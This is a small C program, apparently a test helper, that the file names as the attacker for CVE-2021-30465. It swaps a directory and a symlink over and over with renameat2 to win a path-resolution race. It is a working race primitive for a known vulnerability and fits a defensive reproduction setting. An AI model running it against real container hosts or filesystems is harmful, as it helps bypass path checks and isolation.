/*
 * swap A B [MICROSECONDS]: exchanges two names until it is killed, by default without a pause. The attacker
 * of CVE-2021-30465: what was a directory a moment ago is a symlink. Ends with its parent.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <unistd.h>

static volatile sig_atomic_t ended;

static void end(int signal)
{
	(void)signal;
	ended = 1;
}

int main(int argc, char **argv)
{
	useconds_t pause = argc > 3 ? (useconds_t)atoi(argv[3]) : 0;
	unsigned long swaps = 0;

	if (argc < 3)
		return 2;
	signal(SIGTERM, end);
	prctl(PR_SET_PDEATHSIG, SIGTERM);
	while (!ended) {
		swaps += renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0;
		if (pause > 0)
			usleep(pause);
	}
	/* As it was at the beginning. */
	if (swaps % 2 == 1)
		renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
	printf("%lu\n", swaps);
	return 0;
}
